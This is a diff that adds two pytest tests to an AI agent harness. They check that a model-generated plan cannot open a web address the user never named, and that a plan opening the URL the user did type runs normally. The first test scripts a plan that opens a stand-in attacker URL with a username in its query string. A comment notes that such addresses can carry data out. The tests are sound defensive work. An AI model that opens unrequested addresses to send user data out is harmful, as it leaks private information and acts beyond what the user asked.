@@ -127,3 +127,23 @@ def test_a_model_reply_or_fact_that_breaks_the_content_rules_is_refused(env, fak
     assert done["status"] == "refused" and reply not in done["message"]  # the refusal is said, not the lure
     memory = Path(env["ANOVAX_MEMORY"])
     assert not memory.exists() or not json.loads(memory.read_text()).get("facts")
+
+
+def test_a_model_plan_that_opens_an_address_the_request_never_named_is_not_opened(env, fake_gemini):
+    # the address is a door to anywhere, and its host, path and query can all carry data out: a model's
+    # address is asked about, and with nobody to answer (--text) it is denied before any agent starts
+    fake_gemini.script(plan_reply({"steps": [step("open_website", address="https://news.attacker.example/?u=anna")],
+                                   "final_response": "Here is the news.", "remember": {}}))
+    proc, events, last = run(env, "what's in the news today")
+    types = [e["type"] for e in events]
+    assert "AGENT_SPAWNED" not in types, proc.stdout
+    assert proc.returncode != 0 and "news.attacker.example" in proc.stdout, proc.stdout
+
+
+def test_a_model_plan_that_opens_the_address_the_user_typed_runs(env, fake_gemini):
+    fake_gemini.script(plan_reply({"steps": [step("open_website", address="https://docs.python.org/3/")],
+                                   "final_response": "Opening the Python docs.", "remember": {}}))
+    proc, events, last = run(env, "open docs.python.org/3 please")
+    assert proc.returncode == 0, proc.stdout + proc.stderr
+    spawned = [e for e in events if e["type"] == "AGENT_SPAWNED"]
+    assert [e["tool"] for e in spawned] == ["open_website"], spawned
